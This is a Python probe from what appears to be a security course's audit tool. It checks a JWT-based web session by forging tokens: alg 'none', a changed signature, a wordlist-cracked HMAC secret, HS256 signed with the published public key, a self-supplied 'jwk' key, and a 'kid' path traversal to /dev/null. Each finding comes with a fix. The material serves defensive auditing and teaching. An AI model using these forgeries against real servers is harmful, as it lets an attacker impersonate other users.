"""JWTs: an unsigned token, a guessable secret, no expiry, a public key used as an HMAC secret,
and a key the token brings along.

Lesson 04 in one probe. Applies when the session is a JWT (a Bearer token or a cookie). Every
forged token keeps the real token's claims, so the only thing that changes is the signature:
if the server accepts it, it did not check what it should have.
"""

from __future__ import annotations

import hashlib
import hmac
import json

import jwt
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

from course.audit import lessons
from course.audit.context import AuditContext
from course.audit.findings import Finding, Fix, ProbeOutcome, Severity
from course.audit.identities import identity_key, other_identities
from course.audit.session_values import jwt_parts
from course.audit.wordlist import weak_secrets
from course.lessons.by_hand.jwt_hs256 import b64url_encode

NAME = "tokens"
HMAC_HASHES = {"HS256": hashlib.sha256, "HS384": hashlib.sha384, "HS512": hashlib.sha512}
LONG_LIFETIME_SECONDS = 24 * 3600  # the article's FAQ: "15 minutes to 24 hours"
JWKS_PATHS = ("/.well-known/jwks.json", "/jwks.json")
# The audit's own key for the embedded-key test: seeded, so its forged tokens are the same on every run.
AUDIT_KEY = Ed25519PrivateKey.from_private_bytes(hashlib.sha256(b"course audit: a key the token brings").digest())


def run(ctx: AuditContext) -> ProbeOutcome:
    outcome = ProbeOutcome()
    token = ctx.credential.value
    parts = jwt_parts(token)
    if parts is None:
        others = [found for found in ctx.setup.answer.tokens if jwt_parts(found.value)]
        if not others:
            return outcome
        outcome.skipped.append(
            f"tokens: a JWT came in the login's {others[0].where}, but --profile does not use it; "
            "only its claims were read"
        )
        token, parts = others[0].value, jwt_parts(others[0].value)
        _lifetime(ctx, token, parts[1], outcome)
        return outcome
    header, claims = parts
    _lifetime(ctx, token, claims, outcome)
    _signature_ignored(ctx, token, outcome)
    _alg_none(ctx, header, token, outcome)
    algorithm = str(header.get("alg", ""))
    if algorithm in HMAC_HASHES:
        _weak_secret(ctx, header, claims, token, outcome)
    else:
        _algorithm_confusion(ctx, header, claims, outcome)
    _embedded_key(ctx, header, claims, outcome)
    _key_file_from_kid(ctx, header, claims, outcome)
    return outcome


def _encode(part: dict) -> str:
    return b64url_encode(json.dumps(part, separators=(",", ":")).encode())


def _hmac_token(header: dict, claims: dict, key: bytes, algorithm: str = "HS256") -> str:
    signing_input = f"{_encode({**header, 'alg': algorithm})}.{_encode(claims)}"
    signature = hmac.new(key, signing_input.encode(), HMAC_HASHES[algorithm]).digest()
    return f"{signing_input}.{b64url_encode(signature)}"


def _try(ctx: AuditContext, forged: str, comment: str):
    works, response = ctx.works(ctx.credential.only_forged(forged))
    return works, ctx.evidence.of(response, comment)


def _token_finding(
    ctx, *, id, title, detail, evidence, fix, lesson, asvs="v5.0.0-9.1.2", cwe="CWE-347", severity=Severity.HIGH
):
    return Finding(
        id=id,
        severity=severity,
        title=title,
        asvs=asvs,
        cwe=cwe,
        route=ctx.options.profile,
        detail=detail,
        evidence=tuple(evidence),
        fix=Fix(fix, lesson),
    )


def _signature_ignored(ctx: AuditContext, token: str, outcome: ProbeOutcome) -> None:
    """The real token with its signature changed: a verifier that only decodes lets it in."""
    signing_input, _, signature = token.rpartition(".")
    broken = f"{signing_input}.{b64url_encode(hashlib.sha256(signature.encode()).digest())}"
    works, evidence = _try(ctx, broken, "the audit's own token with its signature replaced by other bytes")
    if works:
        outcome.add(
            _token_finding(
                ctx,
                id="token/signature-ignored",
                title="A token whose signature is wrong is accepted",
                detail="The server decodes the token without checking its signature, so anyone can change its "
                "claims (any user, any role) and keep the old signature, or none.",
                evidence=evidence,
                fix="Verify the signature before reading any claim (jwt.decode with the key and algorithms=[...]).",
                lesson=lessons.JWT_HS256,
                asvs="v5.0.0-9.1.1",
            )
        )
    else:
        outcome.passed.append("a token with a wrong signature was refused")


def _alg_none(ctx: AuditContext, header: dict, token: str, outcome: ProbeOutcome) -> None:
    payload_part = token.split(".")[1]
    unsigned = f"{_encode({**header, 'alg': 'none'})}.{payload_part}."
    works, evidence = _try(ctx, unsigned, "the audit's own token, re-sent with alg 'none' and no signature")
    if works:
        outcome.add(
            _token_finding(
                ctx,
                id="token/alg-none",
                title="A token with alg 'none' and no signature is accepted",
                detail="The verifier believes the token's header: 'none' means nobody signed it, so anyone "
                "can write any claims (any user, any role).",
                evidence=evidence,
                fix="Verify with an allow-list of algorithms you chose (jwt.decode(..., algorithms=['EdDSA'])).",
                lesson=lessons.JWT_ALLOW_LIST,
            )
        )
    else:
        outcome.passed.append("a token with alg 'none' was refused")


def _weak_secret(ctx: AuditContext, header: dict, claims: dict, token: str, outcome: ProbeOutcome) -> None:
    algorithm = header["alg"]
    signing_input, _, signature = token.rpartition(".")
    words = weak_secrets()
    found = None
    for word in words:
        expected = hmac.new(word.encode(), signing_input.encode(), HMAC_HASHES[algorithm]).digest()
        if hmac.compare_digest(b64url_encode(expected), signature):
            found = word
            break
    if found is None:
        outcome.passed.append(f"the {algorithm} secret is none of the {len(words):,} words of the course's list")
        return
    evidence = [f"# the {algorithm} secret {found!r} signed this token: found offline among {len(words):,} words"]
    field = identity_key(claims)
    others = other_identities(claims[field], ctx.options.username) if field else []
    forged_claims = {**claims, field: others[0]} if others else {**claims, "course_audit": "forged"}
    what = f"{field}={others[0]!r}" if others else "a claim the server never issued"
    works, lines = _try(
        ctx, _hmac_token(header, forged_claims, found.encode(), algorithm), f"a token signed for {what}"
    )
    evidence += lines
    outcome.add(
        _token_finding(
            ctx,
            id="token/weak-secret",
            title=f"The {algorithm} secret is a word from a list: {found!r}"
            + ("; a token forged with it was accepted" if works else ""),
            detail="Anyone with one token finds the secret offline, then signs tokens for any user.",
            evidence=evidence,
            fix="Sign with 32 random bytes (secrets.token_bytes(32)), or an asymmetric key (EdDSA).",
            lesson=lessons.JWT_HS256,
            asvs="v5.0.0-11.5.1",
            cwe="CWE-1391",
        )
    )


def _lifetime(ctx: AuditContext, token: str, claims: dict, outcome: ProbeOutcome) -> None:
    exp, iat = claims.get("exp"), claims.get("iat")
    evidence = [f"# the token's claims: {json.dumps(claims)}"]
    if not isinstance(exp, (int, float)) or isinstance(exp, bool):
        outcome.add(
            _token_finding(
                ctx,
                id="token/no-exp",
                title="The token has no exp: it never expires",
                detail="A copied token works forever, and no logout can end it without a deny-list.",
                evidence=evidence,
                fix="Give access tokens an exp of minutes, and use refresh tokens for longer sessions.",
                lesson=lessons.JWT_CLAIMS,
                asvs="v5.0.0-7.3.2",
                cwe="CWE-613",
                severity=Severity.MEDIUM,
            )
        )
        return
    if isinstance(iat, (int, float)) and exp - iat > LONG_LIFETIME_SECONDS:
        hours = (exp - iat) / 3600
        outcome.add(
            _token_finding(
                ctx,
                id="token/long-lifetime",
                title=f"The token lives {hours:.0f} hours",
                detail="Every copy of it works that long, and logging out does not stop it.",
                evidence=evidence,
                fix="Keep access tokens to minutes (the demo server's live 5) and refresh them.",
                lesson=lessons.JWT_CLAIMS,
                asvs="v5.0.0-7.3.2",
                cwe="CWE-613",
                severity=Severity.LOW,
            )
        )
    else:
        outcome.passed.append("the token has an exp")


def _algorithm_confusion(ctx: AuditContext, header: dict, claims: dict, outcome: ProbeOutcome) -> None:
    jwks_response, keys = _discover_jwks(ctx)
    if not keys:
        outcome.skipped.append("tokens: no JWKS found on the app, so algorithm confusion was not tried")
        return
    for jwk in keys:
        for pem in _public_pems(jwk):
            forged = _hmac_token({**header, "kid": jwk.get("kid", header.get("kid"))}, claims, pem)
            works, evidence = _try(ctx, forged, "the token's claims, signed HS256 with the public key from the JWKS")
            if works:
                outcome.add(
                    _token_finding(
                        ctx,
                        id="token/alg-confusion",
                        title="A token signed HS256 with the server's *public* key is accepted",
                        detail="The verifier takes the algorithm from the token: told HS256, it uses the public "
                        "key (which anyone can download) as an HMAC secret.",
                        evidence=ctx.evidence.of(jwks_response, "the public keys, published by the app", body=False)
                        + evidence,
                        fix="Verify with an allow-list that holds only your key's algorithm (EdDSA or RS256, never "
                        "HS256 too).",
                        lesson=lessons.JWT_ALLOW_LIST,
                    )
                )
                return
    outcome.passed.append("a token signed HS256 with the published public key was refused")


def _discover_jwks(ctx: AuditContext):
    """The app's JWKS, looked for at the well-known paths under the root and under --login/--profile."""
    prefixes = [""]
    for path in (ctx.options.login, ctx.options.profile):
        parent = path.rstrip("/").rpartition("/")[0]
        while parent:
            prefixes.append(parent)
            parent = parent.rpartition("/")[0]
    candidates = list(dict.fromkeys(prefix + suffix for prefix in prefixes for suffix in JWKS_PATHS))
    for path in candidates[:6]:
        response = ctx.target.send("GET", path)
        try:
            keys = response.json().get("keys") if response.status_code == 200 else None
        except (ValueError, AttributeError):
            keys = None
        if isinstance(keys, list) and keys:
            return response, [key for key in keys if isinstance(key, dict)]
    return None, []


def _public_pems(jwk: dict) -> list[bytes]:
    try:
        key = jwt.PyJWK(jwk).key
        return [key.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)]
    except (jwt.PyJWTError, ValueError, TypeError, AttributeError):
        return []


def _embedded_key(ctx: AuditContext, header: dict, claims: dict, outcome: ProbeOutcome) -> None:
    public = AUDIT_KEY.public_key().public_bytes(Encoding.Raw, PublicFormat.Raw)
    jwk = {"kty": "OKP", "crv": "Ed25519", "x": b64url_encode(public)}
    forged_header = {key: value for key, value in header.items() if key != "kid"} | {"alg": "EdDSA", "jwk": jwk}
    signing_input = f"{_encode(forged_header)}.{_encode(claims)}"
    forged = f"{signing_input}.{b64url_encode(AUDIT_KEY.sign(signing_input.encode()))}"
    works, evidence = _try(ctx, forged, "the token's claims, signed with the audit's own key, sent in its 'jwk' header")
    if works:
        outcome.add(
            _token_finding(
                ctx,
                id="token/embedded-jwk",
                title="A token signed with a key it carries itself (the 'jwk' header) is accepted",
                detail="The verifier takes the key from the token, so anyone signs with their own key.",
                evidence=evidence,
                fix="Verify only with keys you configured (your own JWKS), never with one from the token's header.",
                lesson=lessons.JWT_KEYS,
                asvs="v5.0.0-9.1.3",
            )
        )
    else:
        outcome.passed.append("a token signed with a key from its own 'jwk' header was refused")


# Far enough up from any key directory to reach the root, then a file whose content everyone knows: none.
EMPTY_FILE_KID = "../" * 16 + "dev/null"


def _key_file_from_kid(ctx: AuditContext, header: dict, claims: dict, outcome: ProbeOutcome) -> None:
    forged = _hmac_token({**header, "kid": EMPTY_FILE_KID}, claims, b"")
    works, evidence = _try(ctx, forged, "the token's claims, HS256 with an empty key, 'kid' naming /dev/null")
    if works:
        outcome.add(
            _token_finding(
                ctx,
                id="token/kid-path",
                title="A 'kid' header that walks up to /dev/null makes an empty key verify the token",
                detail="The verifier reads its key from a file the token names, so the token picks a file whose "
                "content the attacker knows.",
                evidence=evidence,
                fix="Look 'kid' up in your own key ring; never build a file path (or a query) from it.",
                lesson=lessons.HEADER_KEYS,
                asvs="v5.0.0-9.1.3",
                cwe="CWE-22",
            )
        )
    else:
        outcome.passed.append("a token whose 'kid' names /dev/null, signed with an empty key, was refused")
